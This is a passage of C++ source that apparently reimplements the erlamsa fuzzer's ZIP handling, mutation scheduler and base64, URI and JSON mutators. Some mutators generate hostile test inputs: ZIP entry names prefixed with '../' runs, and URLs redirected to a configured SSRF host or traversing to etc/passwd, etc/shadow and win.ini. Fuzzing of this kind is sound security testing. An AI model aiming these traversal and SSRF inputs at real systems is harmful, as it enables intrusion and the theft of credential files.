// where the outcome depends on corners this restatement does not pin (ZIP64 markers, encrypted or data-descriptor entries,
// directory entries, names that are empty or not ASCII, a local header outside the file).
//   foldl:  the end-of-central-directory record is searched in the last 22, 44, 88, .. bytes (first signature in the
//           window; no record within 64 K: {error, bad_eocd}); its comment length must match what follows; the central
//           directory is walked entry by entry and the fun is called for each (so a later broken entry fails the call after
//           earlier entries were handed out); a file's bytes come from its LOCAL header's method and compressed size
//           (0 stored, 8 inflate with -MAX_WBITS, anything else throws); prim_zip checks no CRC; an inflate data_error is an
//           error exception nobody catches (the worker dies); a deflate stream that just stops yields what it decoded.
//   create: local header (version needed 20, flags 0, method, the entry's DOS time / date, CRC-32 and compressed size patched
//           in afterwards, uncompressed size = the file_info's size - NOT the size of the new binary), name, data; central
//           directory (version made by 20, attributes 0); end record without comment.  Method: stored below 10 bytes and for
//           the extensions .Z .zip .zoo .arc .lzh .arj, deflated otherwise.  At most file_info.size bytes of the binary are
//           read, in 8 K chunks; `finish` is passed with the chunk the counter ends on, so a binary that ends before that
//           chunk leaves the stream unfinished and zip:create returns {error, _} (deflateEnd raises data_error).
// ===========================================================================
namespace otpzip {
struct Entry { Bytes name; uint16_t time = 0, date = 0; uint32_t usize = 0; Bytes data; };
enum { ZR_OK = 0, ZR_ERROR = 1, ZR_CRASH = 2, ZR_UNSUP = 3 };
struct Reader { const Bytes* a; uint32_t entries = 0, idx = 0; uint64_t pos = 0; };
inline uint32_t le16(const uint8_t* p) { return p[0] | (p[1] << 8); }
inline uint32_t le32(const uint8_t* p) { return p[0] | (p[1] << 8) | (p[2] << 16) | ((uint32_t)p[3] << 24); }
int open(const Bytes& a, Reader* r) {
  const uint64_t n = a.size();
  if (n < 22) return ZR_ERROR;
  uint64_t at = UINT64_MAX;
  for (uint64_t sz = 22; sz <= 0xffff && at == UINT64_MAX; sz += sz) {          // get_end_of_central_dir: Sz, Sz+Sz, ..
    uint64_t start = n > sz ? n - sz : 0;
    for (uint64_t i = start; i + 22 <= n; i++) if (a[i] == 0x50 && a[i + 1] == 0x4b && a[i + 2] == 0x05 && a[i + 3] == 0x06) { at = i; break; }
    if (start == 0) break;
  }
  if (at == UINT64_MAX) return ZR_ERROR;                                         // bad_eocd
  const uint8_t* e = a.data() + at + 4;
  uint32_t entries = le16(e + 6), off = le32(e + 12), clen = le16(e + 16);
  if (at + 22 + clen != n) return ZR_ERROR;                                      // eocd_and_comment_from_bin(_) -> throw(bad_eocd)
  if (entries == 0xffff || off == 0xffffffffu) return ZR_UNSUP;                  // ZIP64
  r->a = &a; r->entries = entries; r->idx = 0; r->pos = off;
  return ZR_OK;
}
// the next central-directory entry (get_cd_loop up to the call of the fun): *lho = its local header's offset
int next_header(Reader* r, Entry* out, uint32_t* lho_out) {
  const Bytes& a = *r->a; const uint64_t n = a.size();
  if (r->pos + 46 > n) return ZR_ERROR;                                          // bad_central_directory
  const uint8_t* h = a.data() + r->pos;
  if (le32(h) != 0x02014b50u) return ZR_ERROR;
  uint32_t gp = le16(h + 8), fnl = le16(h + 28), exl = le16(h + 30), cml = le16(h + 32), lho = le32(h + 42);
  if (r->pos + 46 + fnl + exl + cml > n) return ZR_ERROR;
  out->time = (uint16_t)le16(h + 12); out->date = (uint16_t)le16(h + 14); out->usize = le32(h + 24);
  out->name.assign(h + 46, h + 46 + fnl);
  r->pos += 46 + fnl + exl + cml; r->idx++;
  if (fnl == 0 || out->name.back() == '/' || (gp & 9) || le32(h + 20) == 0xffffffffu || out->usize == 0xffffffffu || lho == 0xffffffffu) return ZR_UNSUP;
  for (uint8_t ch : out->name) if (ch > 127) return ZR_UNSUP;
  if ((uint64_t)lho + 30 > n) return ZR_UNSUP;
  *lho_out = lho;
  return ZR_OK;
}
// the entry's GetBin(): get_z_file / get_z_all, called from inside the fun
int next_file(Reader* r, Entry* out, uint32_t lho) {
  const Bytes& a = *r->a; const uint64_t n = a.size();
  const uint8_t* l = a.data() + lho;
  if (le32(l) != 0x04034b50u) return ZR_ERROR;                                   // bad_local_file_header
  uint32_t lgp = le16(l + 6), method = le16(l + 8), csz = le32(l + 18), lfn = le16(l + 26), lex = le16(l + 28);
  if (lgp & 9) return ZR_UNSUP;
  uint64_t ds = (uint64_t)lho + 30 + lfn + lex;
  if (ds > n) return ZR_UNSUP;
  uint64_t de = ds + csz > n ? n : ds + csz;
  if (method == 0) { out->data.assign(a.begin() + ds, a.begin() + de); return ZR_OK; }
  if (method != 8) return ZR_ERROR;                                              // throw({bad_file_header, _})
  z_stream z; memset(&z, 0, sizeof(z));
  if (inflateInit2(&z, -15) != Z_OK) throw std::runtime_error("inflateInit2");
  out->data.clear();
  z.next_in = (Bytef*)a.data() + ds; z.avail_in = (uInt)(de - ds);
  std::vector<uint8_t> buf(1 << 16); int res = ZR_OK;
  while (true) {
    z.next_out = buf.data(); z.avail_out = (uInt)buf.size();
    int rc = inflate(&z, Z_NO_FLUSH);
    out->data.insert(out->data.end(), buf.data(), buf.data() + (buf.size() - z.avail_out));
    if (rc == Z_STREAM_END) break;
    if (rc == Z_DATA_ERROR || rc == Z_NEED_DICT || rc == Z_MEM_ERROR || rc == Z_STREAM_ERROR) { res = ZR_CRASH; break; }
    if (z.avail_in == 0 && z.avail_out != 0) break;
  }
  inflateEnd(&z);
  return res;
}
int next(Reader* r, Entry* out) {
  uint32_t lho = 0;
  int rc = next_header(r, out, &lho);
  return rc != ZR_OK ? rc : next_file(r, out, lho);
}
bool stored_ext(const Bytes& name) {                                              // filename:extension/1 in [".Z", ".zip", ".zoo", ".arc", ".lzh", ".arj"]
  size_t dot = std::string::npos;
  for (size_t i = 0; i < name.size(); i++) { if (name[i] == '.') dot = i; else if (name[i] == '/') dot = std::string::npos; }
  if (dot == std::string::npos) return false;
  std::string e(name.begin() + dot, name.end());
  return e == ".Z" || e == ".zip" || e == ".zoo" || e == ".arc" || e == ".lzh" || e == ".arj";
}
void put16(Bytes& o, uint32_t v) { o.push_back(v & 255); o.push_back((v >> 8) & 255); }
void put32(Bytes& o, uint32_t v) { put16(o, v & 0xffff); put16(o, v >> 16); }
int create(const std::vector<Entry>& es, Bytes* out) {
  out->clear();
  struct Rec { uint32_t method, crc, csz, pos; };
  std::vector<Rec> recs;
  for (auto& e : es) {
    const uint64_t U = e.usize, S = e.data.size();
    Rec rc; rc.pos = (uint32_t)out->size();
    rc.method = (U < 10 || stored_ext(e.name)) ? 0 : 8;
    uint64_t take = S < U ? S : U;
    Bytes payload;
    if (U == 0) { rc.crc = 0; }                                                   // put_z_file(_Method, 0, ..) -> {Out, Pos, 0}
    else if (rc.method == 0) {
      if (S == 0) return ZR_ERROR;                                                // {read, U} -> eof -> Output({write, eof}) exits
      payload.assign(e.data.begin(), e.data.begin() + take); rc.crc = otp::crc32(payload.data(), payload.size());
    } else {
      uint64_t last_chunk_pos = 8192 * ((U + 8191) / 8192 - 1);
      if (S == 0) { rc.crc = 0; }                                                 // the first read is eof: nothing was deflated, deflateEnd is fine
      else if (S <= last_chunk_pos) return ZR_ERROR;                              // unfinished stream: deflateEnd -> data_error
      else { Bytes in(e.data.begin(), e.data.begin() + take); payload = otpz::deflate_all(in, -15); rc.crc = otp::crc32(in.data(), in.size()); }
    }
    rc.csz = (uint32_t)payload.size();
    put32(*out, 0x04034b50u); put16(*out, 20); put16(*out, 0); put16(*out, rc.method); put16(*out, e.time); put16(*out, e.date);
    put32(*out, rc.crc); put32(*out, rc.csz); put32(*out, (uint32_t)U); put16(*out, (uint32_t)e.name.size()); put16(*out, 0);
    out->insert(out->end(), e.name.begin(), e.name.end());
    out->insert(out->end(), payload.begin(), payload.end());
    recs.push_back(rc);
  }
  const uint32_t cd = (uint32_t)out->size();
  for (size_t i = 0; i < es.size(); i++) {
    const Entry& e = es[i]; const Rec& rc = recs[i];
    put32(*out, 0x02014b50u); put16(*out, 20); put16(*out, 20); put16(*out, 0); put16(*out, rc.method); put16(*out, e.time); put16(*out, e.date);
    put32(*out, rc.crc); put32(*out, rc.csz); put32(*out, e.usize); put16(*out, (uint32_t)e.name.size()); put16(*out, 0); put16(*out, 0);
    put16(*out, 0); put16(*out, 0); put32(*out, 0); put32(*out, rc.pos);
    out->insert(out->end(), e.name.begin(), e.name.end());
  }
  const uint32_t cdsz = (uint32_t)out->size() - cd;
  put32(*out, 0x06054b50u); put16(*out, 0); put16(*out, 0); put16(*out, (uint32_t)es.size()); put16(*out, (uint32_t)es.size()); put32(*out, cdsz); put32(*out, cd); put16(*out, 0);
  return ZR_OK;
}
}  // namespace otpzip

int nomutation(Ctx&, BList&) { return -1; }                                   // :1104-1105

// zip_path_traversal :1149-1163: zip:foldl(fun mutate_zip_path/4, ..) draws rand(20) for every entry as the central directory is
// walked and reads the entry; {ok, FileSpec} -> {ok, {_, Bin}} = zip:create(..) (a failing create is a badmatch); anything else: -1.
int zip_path_traversal(Ctx& c, BList& ll) {
  otpzip::Reader rd; std::vector<otpzip::Entry> es;
  int rc = otpzip::open(ll[0], &rd);
  if (rc == otpzip::ZR_UNSUP) throw Unsupported();
  if (rc != otpzip::ZR_OK) return -1;
  for (uint32_t i = 0; i < rd.entries; i++) {
    otpzip::Entry e; uint32_t lho = 0;
    rc = otpzip::next_header(&rd, &e, &lho);                                   // a broken directory entry ends the fold before the fun runs
    if (rc == otpzip::ZR_UNSUP) throw Unsupported();
    if (rc != otpzip::ZR_OK) return -1;
    uint64_t r = c.rnd.rand(20);                                               // mutate_zip_path/4 :1149-1152: R first, then B()
    rc = otpzip::next_file(&rd, &e, lho);
    if (rc == otpzip::ZR_UNSUP) throw Unsupported();
    if (rc == otpzip::ZR_CRASH) throw ErlCrash("data_error in zip:foldl");
    if (rc != otpzip::ZR_OK) return -1;
    Bytes nn; for (uint64_t k = 0; k < r; k++) { nn.push_back('.'); nn.push_back('.'); nn.push_back('/'); }
    nn.insert(nn.end(), e.name.begin(), e.name.end()); e.name = nn;
    if (e.name.size() > 0xffff) throw Unsupported();
    es.push_back(e);
  }
  Bytes out;
  rc = otpzip::create(es, &out);
  if (rc != otpzip::ZR_OK) throw ErlCrash("badmatch: zip:create");
  c.check_cap(out.size());
  ll[0] = out;
  return +1;
}

// fwd decls for mutators that recurse into the scheduler
int base64_mutator(Ctx& c, BList& ll);
int uri_mutator(Ctx& c, BList& ll, Muta& m);
int sgml_mutate(Ctx& c, BList& ll);
int json_mutate(Ctx& c, BList& ll);

// ===========================================================================
// Scheduler: mutations/1, mutators_mutator, weighted_permutations, mux_fuzzers
// ===========================================================================
// mutations/1 :1290-1332 — evaluating the table draws snand's and srnd's MaskFun
// (rand_elem over 3 and over 1 elements), in that order.
std::vector<Muta> mutations_table(Rnd& rnd) {
  std::vector<Muta> t;
  int snand_mask = (int)rnd.rand_elem_idx(3);
  rnd.rand_elem_idx(1);
  for (int i = 0; i < M_COUNT; i++) { Muta m; m.score = 10.0; m.pri = MUTA_TABLE[i].pri; m.name = i; m.fn = i; m.mask_fun = (i == M_SNAND) ? snand_mask : 3; t.push_back(m); }
  return t;
}
// mutators_mutator/2 :1391-1395 — `mutas` in the order given; result prepends.
std::vector<Muta> mutators_mutator(Rnd& rnd, const std::vector<Muta>& mutas) {
  std::vector<Muta> out;
  for (auto m : mutas) { uint64_t n = rnd.rand(10); m.score = (double)std::max<uint64_t>(2, n); out.insert(out.begin(), m); }
  return out;
}
// make_mutator/2 :1370-1383
std::vector<Muta> make_mutator(Rnd& rnd, const std::vector<std::pair<int, int>>& selected) {
  std::vector<Muta> table = mutations_table(rnd);
  std::vector<Muta> mutas;  // foldl prepend => reverse table order
  for (auto& m : table) for (auto& s : selected) if (s.first == m.name) { Muta x = m; x.pri = s.second; mutas.insert(mutas.begin(), x); break; }
  return mutators_mutator(rnd, mutas);
}
double adjust_priority(double pri, int delta) {                               // :1238-1242
  if (delta == 0) return pri;
  return std::max(2.0, std::min(10.0, pri + delta));
}

int run_muta_fn(Ctx& c, BList& ll, Muta& m) {
  switch (m.fn) {
    case M_BD: case M_BEI: case M_BED: case M_BF: case M_BI: case M_BER: case M_BR: return sed_byte_muta(c, ll, m.fn);
    case M_SP: case M_SR: case M_SD: case M_SNAND: case M_SRND: return sed_bytes_muta(c, ll, m);
    case M_UW: return sed_utf8_widen(c, ll);
    case M_UI: return sed_utf8_insert(c, ll);
    case M_NUM: return sed_num(c, ll);
    case M_LD: case M_LDS: case M_LR2: case M_LRI: case M_LR: case M_LS: case M_LP: return line_muta(c, ll, m.fn);
    case M_LIS: case M_LRS: return st_line_muta(c, ll, m);
    case M_FT: return sed_fuse_this(c, ll);
    case M_FN: return sed_fuse_next(c, ll);
    case M_FO: return sed_fuse_old(c, ll, m);
    case M_TR2: case M_TD: return sed_tree_op(c, ll, m.fn);
    case M_TS1: case M_TS2: return sed_tree_swap(c, ll, m.fn);
    case M_TR: return sed_tree_stutter(c, ll);
    case M_AB: case M_AD: return ascii_mutator(c, ll, m.fn);
    case M_LEN: return length_predict(c, ll);
    case M_B64: return base64_mutator(c, ll);
    case M_URI: return uri_mutator(c, ll, m);
    case M_ZIP: return zip_path_traversal(c, ll);
    case M_SGM: return sgml_mutate(c, ll);
    case M_JS: return json_mutate(c, ll);
    case M_NIL: return nomutation(c, ll);
  }
  throw ErlCrash("undef mutator");
}

// mux_fuzzers/1 + mux_fuzzers_loop/4 :1256-1280.  Mutates `fs` (the closure's
// list) and `ll` in place.
// cost weights of the engine's optional work budget (erlamsa_amd/csrc/eh_device.h work_weight()); see EngineGuard
void EngineGuard::attempt(int fn, size_t len) {
  clock();
  if (!max_work) return;
  uint32_t w = 1;
  switch (fn) {
    case M_SGM: case M_JS: case M_AB: case M_AD: case M_TR2: case M_TD: case M_TS1: case M_TR: case M_TS2:
    case M_SNAND: case M_SRND: case M_B64: case M_URI: w = 8; break;
    case M_NUM: w = 4; break;
    case M_FT: case M_FN: case M_FO: case M_ZIP: w = 64; break;
    default: break;
  }
  work += (uint64_t)len * w;
  if (work > max_work) throw Budget();
}
void EngineGuard::codec(uint64_t bytes) {
  clock();
  if (!max_work) return;
  work += 64ull * bytes;
  if (work > max_work) throw Budget();
}
void EngineGuard::round(uint64_t members) {
  clock();
  if (!max_work) return;
  work += 16ull * members;
  if (work > max_work) throw Budget();
}
// The Meta entry a mutator conses itself (it is part of the Meta it RETURNS, so it stands in front of {used, _} as well as of
// {failed, _}).  Most follow from the mutator and its result: erlamsa_mutations.erl:162-168 (muta_num), :180 ({Name, D}, byte
// level), :235/:248 ({Name, -1} for <<>>, {Name, BSize} otherwise), :360/:376 ({Name, 1} when the block is lines), :390/:402/:421
// (fuse), :598 (ascii, when stringy), :922/:968/:1021 (tree, {Name, 1} when it ran), :1089/:1099 (utf8), :1105, :1143, :1160-1162.
// b64 / uri / sgm / js write theirs where they happen.
static const char* OWN_NAME[M_COUNT] = {
    nullptr, nullptr, "sed_utf8_widen", "sed_utf8_insert", "ascii_bad", "ascii_delimeter", "tree_dup", "tree_del",
    "muta_num", "tree_swap_one", "tree_stutter", "tree_swap_two", "byte_drop", "byte_inc", "byte_dec", "byte_flip",
    "byte_insert", "byte_swap_random", "byte_repeat", "seq_perm", "seq_repeat", "seq_drop", "seq_randmask", "seq_randmask",
    "line_del", "line_del_seq", "line_dup", "line_clone", "line_repeat", "line_swap", "line_perm", "list_ins",
    "list_replace", "fuse_this", "fuse_next", "fuse_old", "muta_len", nullptr, nullptr, "muta_zippath",
    "nomutation"};
void own_meta(Ctx& c, int fn, int delta, const Bytes& h) {
  if (!c.meta) return;
  const char* nm = OWN_NAME[fn];
  switch (fn) {
    case M_BD: case M_BEI: case M_BED: case M_BF: case M_BI: case M_BER: case M_BR: case M_UW: case M_UI:
    case M_FT: case M_FN: case M_FO: case M_LEN: case M_ZIP: case M_NIL:
      c.m2(nm, (long long)delta); break;
    case M_SP: case M_SR: case M_SD: case M_SNAND: case M_SRND:
      c.m2(nm, h.empty() ? -1ll : (long long)h.size()); break;
    case M_NUM: c.m2(nm, (long long)c.own_aux); break;
    case M_AB: case M_AD: if (c.own_aux == 1) c.m2(nm, (long long)delta); break;
    case M_LD: case M_LDS: case M_LR2: case M_LRI: case M_LR: case M_LS: case M_LP: case M_LIS: case M_LRS:
    case M_TR2: case M_TD: case M_TS1: case M_TS2: case M_TR:
      if (delta == 1) c.m2(nm, 1ll);
      break;
    default: break;
  }
}
void mux_fuzzers(Ctx& c, std::vector<Muta>& fs, BList& ll) {
  if (ll.size() == 1 && ll[0].empty()) return;                                // L([<<>>], Meta)
  if (ll.empty()) throw ErlCrash("mux_fuzzers([]) -> <<>> (non-list result)");
  // weighted_permutations/1 :1244-1250
  std::vector<std::pair<uint64_t, Muta>> keyed;
  for (auto& m : fs) keyed.push_back({c.rnd.rand((uint64_t)std::trunc(m.score * m.pri)), m});
  std::stable_sort(keyed.begin(), keyed.end(), [](const std::pair<uint64_t, Muta>& a, const std::pair<uint64_t, Muta>& b) { return a.first > b.first; });
  std::vector<Muta> sorted; for (auto& k : keyed) sorted.push_back(k.second);
  std::vector<Muta> out;  // cons-list, front = most recent
  size_t i = 0;
  for (; i < sorted.size(); i++) {
    if (ll[0].size() > ABSMAX_BINARY_BLOCK) {                                 // :1269-1270 (drops sorted[i])
      if (c.trace) c.t("skipped_big", "");
      c.m2("skipped_big", (long long)ll[0].size());                            // [{skipped_big, byte_size(H)} | Meta] :1270
      std::vector<Muta> nf = out; nf.insert(nf.end(), sorted.begin() + i + 1, sorted.end()); fs.swap(nf); return;
    }
    Muta node = sorted[i];
    if (c.guard) c.guard->attempt(node.fn, ll[0].size());
    BList mll = ll;
    c.own_aux = -1;
    const int fn0 = node.fn;
    int delta = run_muta_fn(c, mll, node);
    own_meta(c, fn0, delta, ll[0]);                                           // the mutator's own entry: it is in the Meta it returns, used or failed
    node.score = adjust_priority(node.score, delta);
    out.insert(out.begin(), node);
    if (!mll.empty() && mll[0] == ll[0]) { c.t("failed", MUTA_TABLE[node.name].name); c.m2("failed", MUTA_TABLE[node.name].name); continue; }   // :1278
    c.t("used", MUTA_TABLE[node.name].name); c.m2("used", MUTA_TABLE[node.name].name);
    std::vector<Muta> nf = out; nf.insert(nf.end(), sorted.begin() + i + 1, sorted.end());
    fs.swap(nf); ll.swap(mll);
    size_t tot = 0; for (auto& b : ll) tot += b.size(); c.check_cap(tot + c.out.size());
    return;
  }
  fs.swap(out);                                                               // :1268 all failed
}

// ---------------------------------------------------------------------------
// base64_mutator :658-690, uri_mutator :696-784
// ---------------------------------------------------------------------------
int base64_mutator(Ctx& c, BList& ll) {
  std::vector<Chunk> cs = lex(ll[0]);
  std::vector<Muta> table = mutations_table(c.rnd);                           // mutas_list(mutations([])) :661
  int dacc = -1;
  for (auto& ch : cs) {
    if (ch.type != 0 || ch.bs.size() <= 6) continue;
    Bytes dec;
    if (!otp::base64_decode(ch.bs, &dec)) continue;                           // error:badarg / function_clause caught :677-684
    // `try base64:decode(A) of Bin -> Body catch ...`: only decode errors are caught;
    // a crash inside Body (the nested mutation) kills the worker.
    int d = c.rnd.rand_delta();
    c.m2("base64_mutator", (long long)d);                                     // [AddedMeta, {base64_mutator, D} | MAcc] :674: D's entry, then what the nested run adds
    std::vector<Muta> muta = mutators_mutator(c.rnd, table);                  // :669 (table order => draws in table order)
    BList one{dec};
    size_t tr0 = c.trace ? c.trace->size() : 0;
    const size_t base0 = c.meta_base; c.meta_base = c.meta_size();            // Muta([Bin], []) :670
    mux_fuzzers(c, muta, one);
    c.meta_base = base0;
    Bytes nb; for (auto& b : one) nb.insert(nb.end(), b.begin(), b.end());
    if (getenv("EO_DUMP_B64")) {                                              // debugging aid (stderr): every nested call of base64_mutator
      fprintf(stderr, "B64 in=");  for (uint8_t x : dec) fprintf(stderr, "%02x", x);
      fprintf(stderr, " out="); for (uint8_t x : nb) fprintf(stderr, "%02x", x);
      fprintf(stderr, " trace=%s\n", c.trace ? c.trace->substr(tr0).c_str() : "");
    }
    ch.bs = otp::base64_encode(nb);
    dacc += d;
  }
  ll[0] = unlex(cs);
  return dacc;
}
void change_scheme(const Bytes& acc_rev, Bytes& out) {                        // :733-735 (Acc is reversed text)
  // Acc = reverse(prefix).  [$e,$l,$i,$f | T] -> reverse([$p,$t,$t,$h | T])
  if (acc_rev.size() >= 4 && acc_rev[0] == 'e' && acc_rev[1] == 'l' && acc_rev[2] == 'i' && acc_rev[3] == 'f') {
    for (size_t i = acc_rev.size(); i-- > 4;) out.push_back(acc_rev[i]);
    out.push_back('h'); out.push_back('t'); out.push_back('t'); out.push_back('p');
  } else for (size_t i = acc_rev.size(); i-- > 0;) out.push_back(acc_rev[i]);
}
std::vector<Bytes> string_tokens(const Bytes& s, uint8_t sep) {               // string:tokens/2 (drops empty tokens)
  std::vector<Bytes> out; Bytes cur;
  for (uint8_t x : s) { if (x == sep) { if (!cur.empty()) { out.push_back(cur); cur.clear(); } } else cur.push_back(x); }
  if (!cur.empty()) out.push_back(cur);
  return out;
}
Bytes join(const std::vector<Bytes>& v, size_t from, uint8_t sep) { Bytes o; for (size_t i = from; i < v.size(); i++) { if (i > from) o.push_back(sep); o.insert(o.end(), v[i].begin(), v[i].end()); } return o; }
bool try_uri_mutate(Ctx& c, Bytes& a) {                                       // :760-768 + rand_uri_mutate :737-758
  size_t i = 0; bool found = false;
  for (; i + 2 < a.size(); i++) if (a[i] == ':' && a[i + 1] == '/' && a[i + 2] == '/') { found = true; break; }
  if (!found) return false;
  Bytes acc_rev(a.rbegin() + (a.size() - i), a.rend());
  Bytes t(a.begin() + i + 3, a.end());
  std::string host = c.cfg->ssrf_host, port = std::to_string(c.cfg->ssrf_port);
  uint64_t k = c.rnd.erand(3);
  Bytes out;
  if (k == 1) {
    change_scheme(acc_rev, out);
    std::string u = "://" + host + ":" + port + "/";                          // get_ssrf_uri :727-731
    out.insert(out.end(), u.begin(), u.end()); out.insert(out.end(), t.begin(), t.end());
  } else if (k == 2) {
    std::string at = (c.rnd.rand_elem_idx(2) == 0 ? " @" : "@") + host + ":" + port;
    std::vector<Bytes> tok = string_tokens(t, '/');
    if (tok.empty()) throw ErlCrash("badmatch: [Domain|Query] = []");
    change_scheme(acc_rev, out);
    const char* s = "://"; out.insert(out.end(), s, s + 3);
    out.insert(out.end(), tok[0].begin(), tok[0].end()); out.insert(out.end(), at.begin(), at.end()); out.push_back('/');
    Bytes q = join(tok, 1, '/'); out.insert(out.end(), q.begin(), q.end());
  } else {
    std::vector<Bytes> tok = string_tokens(t, '/');
    if (tok.empty()) throw ErlCrash("badmatch: [Domain|Query] = []");
    uint64_t n = c.rnd.erand(10);
    Bytes nq = {'/'}; for (uint64_t j = 0; j < n; j++) { nq.push_back('.'); nq.push_back('.'); nq.push_back('/'); }
    uint64_t w = c.rnd.erand(4);
    std::string tailstr;
    if (w == 1) { Bytes q = join(tok, 1, '/'); nq.insert(nq.end(), q.begin(), q.end()); }
    else { tailstr = w == 2 ? "Windows/win.ini" : (w == 3 ? "etc/shadow" : "etc/passwd"); nq.insert(nq.end(), tailstr.begin(), tailstr.end()); }
    for (size_t j = acc_rev.size(); j-- > 0;) out.push_back(acc_rev[j]);
    const char* s = "://"; out.insert(out.end(), s, s + 3);
    out.insert(out.end(), tok[0].begin(), tok[0].end()); out.insert(out.end(), nq.begin(), nq.end());
  }
  a.swap(out);
  return true;
}
int uri_mutator(Ctx& c, BList& ll, Muta& m) {                                 // :770-784
  std::vector<Chunk> cs = lex(ll[0]);
  int dacc = -1;
  for (auto& ch : cs) if (ch.type == 0 && ch.bs.size() > 5) { if (try_uri_mutate(c, ch.bs)) { dacc += 1; c.m2("uri", "success"); } }   // [NewMeta | MAcc] :778: {uri, success} or []
  ll[0] = unlex(cs);
  m.fn = M_B64;                                                               // :784 returns fun base64_mutator/2 (sic)
  return dacc;
}

// ===========================================================================
// erlamsa_json.erl — tokenizer (:83-190), count/walk/select (:280-480), serializer (:235-276),
// mutations (:535-720).  Terms are modelled as they are in the reference: a list, or a tagged tuple.
// ===========================================================================
struct JT;
typedef std::shared_ptr<const JT> JTP;
enum JKind { JK_LIST, JK_OBJECT, JK_ARRAY, JK_PAIR, JK_STRING, JK_JUNK, JK_NUMBER, JK_CONST };
struct JT {
  JKind k = JK_LIST;
  std::vector<JTP> items;   // LIST: the elements; OBJECT/ARRAY: items[0] = Els; PAIR: items[0] = key, items[1] = value
  Bytes s;                  // STRING / JUNK / NUMBER text
  int cval = 0;             // CONST: 0 true, 1 false, 2 null
};
JTP j_list(std::vector<JTP> v) { auto t = std::make_shared<JT>(); t->k = JK_LIST; t->items = std::move(v); return t; }
JTP j_tag(JKind k, JTP els) { auto t = std::make_shared<JT>(); t->k = k; t->items.push_back(std::move(els)); return t; }
JTP j_pair(JTP a, JTP b) { auto t = std::make_shared<JT>(); t->k = JK_PAIR; t->items.push_back(std::move(a)); t->items.push_back(std::move(b)); return t; }
JTP j_text(JKind k, Bytes s) { auto t = std::make_shared<JT>(); t->k = k; t->s = std::move(s); return t; }
JTP j_const(int v) { auto t = std::make_shared<JT>(); t->k = JK_CONST; t->cval = v; return t; }
bool j_eq(const JTP& a, const JTP& b) {
  if (a->k != b->k || a->s != b->s || a->cval != b->cval || a->items.size() != b->items.size()) return false;
  for (size_t i = 0; i < a->items.size(); i++) if (!j_eq(a->items[i], b->items[i])) return false;
  return true;
}
struct IncorrectJson {};

// tokenize/1 :83-190.  The reference threads a context stack through ws/value/array/elements/object/
// members/pair/push; `cx.back()` is the head of that list.  Lists are kept in forward order here (the
// reference prepends and reverses when a container closes).
std::vector<JTP> json_tokenize(const Bytes& in) {
  enum T { C_ARRAY, C_ELEMENTS, C_OBJECT, C_MEMBERS, C_PAIR, C_PAIR_DELIM, C_VALUE, C_ARRAY_END, C_OBJECT_END, C_PAIR_END, C_PAIR_START };
  struct Cx { T t; std::vector<JTP> list; JTP key; };
  std::vector<Cx> cx; cx.push_back(Cx{C_VALUE, {}, nullptr});
  std::vector<JTP> acc;
  const size_t n = in.size(); size_t pos = 0;
  auto sep = [](uint8_t c) { return c == ' ' || c == '\n' || c == '\r' || c == '\t' || c == ',' || c == ']' || c == '}' || c == ':'; };
  auto starts = [&](const char* w) { size_t l = strlen(w); return pos + l <= n && memcmp(&in[pos], w, l) == 0; };
  bool pushing = false; JTP pv;
  while (true) {
    if (pushing) {                                                            // push/4 :157-170
      if (cx.empty()) { acc.push_back(pv); pushing = false; continue; }
      Cx& h = cx.back();
      if (h.t == C_ELEMENTS || h.t == C_MEMBERS) { h.list.push_back(pv); pushing = false; continue; }
      if (h.t == C_PAIR_DELIM) { cx.pop_back(); cx.push_back(Cx{C_PAIR_START, {}, pv}); cx.push_back(Cx{C_PAIR_DELIM, {}, nullptr}); pushing = false; continue; }
      if (h.t == C_PAIR_END && cx.size() >= 2 && cx[cx.size() - 2].t == C_PAIR_START) {
        JTP key = cx[cx.size() - 2].key; cx.pop_back(); cx.pop_back(); pv = j_pair(key, pv); continue;
      }
      throw IncorrectJson();
    }
    while (pos < n && (in[pos] == '\t' || in[pos] == '\n' || in[pos] == '\r' || in[pos] == ' ')) pos++;   // ws/3 :86-102
    if (pos >= n) return acc;                                                 // ws(<<>>, _, Acc): open containers are dropped
    if (cx.empty()) throw IncorrectJson();
    Cx term = cx.back();
    switch (term.t) {
      case C_ARRAY:                                                           // array/3 :120-124
        cx.pop_back(); cx.push_back(Cx{C_ARRAY_END, {}, nullptr});
        if (in[pos] == ']') { pos++; cx.pop_back(); pv = j_tag(JK_ARRAY, j_list({})); pushing = true; }
        else { cx.push_back(Cx{C_ELEMENTS, {}, nullptr}); cx.push_back(Cx{C_VALUE, {}, nullptr}); }
        break;
      case C_ELEMENTS:                                                        // elements/4 :126-132
        cx.pop_back();
        if (in[pos] == ']' && !cx.empty() && cx.back().t == C_ARRAY_END) { pos++; cx.pop_back(); pv = j_tag(JK_ARRAY, j_list(term.list)); pushing = true; }
        else if (in[pos] == ',') { pos++; cx.push_back(Cx{C_ELEMENTS, term.list, nullptr}); cx.push_back(Cx{C_VALUE, {}, nullptr}); }
        else throw IncorrectJson();
        break;
      case C_OBJECT:                                                          // object/3 :135-139
        cx.pop_back(); cx.push_back(Cx{C_OBJECT_END, {}, nullptr});
        if (in[pos] == '}') { pos++; cx.pop_back(); pv = j_tag(JK_OBJECT, j_list({})); pushing = true; }
        else { cx.push_back(Cx{C_MEMBERS, {}, nullptr}); cx.push_back(Cx{C_PAIR, {}, nullptr}); }
        break;
      case C_MEMBERS:                                                         // members/4 :141-147
        cx.pop_back();
        if (in[pos] == '}' && !cx.empty() && cx.back().t == C_OBJECT_END) { pos++; cx.pop_back(); pv = j_tag(JK_OBJECT, j_list(term.list)); pushing = true; }
        else if (in[pos] == ',') { pos++; cx.push_back(Cx{C_MEMBERS, term.list, nullptr}); cx.push_back(Cx{C_PAIR, {}, nullptr}); }
        else throw IncorrectJson();
        break;
      case C_PAIR:                                                            // pair/3 :149-154 with RestContext
        cx.pop_back();
        if (in[pos] == ':' && !cx.empty() && cx.back().t == C_PAIR_DELIM) { pos++; cx.pop_back(); cx.push_back(Cx{C_PAIR_END, {}, nullptr}); cx.push_back(Cx{C_VALUE, {}, nullptr}); }
        else { cx.push_back(Cx{C_PAIR_DELIM, {}, nullptr}); cx.push_back(Cx{C_VALUE, {}, nullptr}); }
        break;
      case C_PAIR_DELIM:                                                      // pair/3 with the whole Context (head = pair_delim)
        if (in[pos] == ':') { pos++; cx.pop_back(); cx.push_back(Cx{C_PAIR_END, {}, nullptr}); cx.push_back(Cx{C_VALUE, {}, nullptr}); }
        else { cx.push_back(Cx{C_PAIR_DELIM, {}, nullptr}); cx.push_back(Cx{C_VALUE, {}, nullptr}); }
        break;
      case C_VALUE:                                                           // value/3 :104-117
        cx.pop_back();
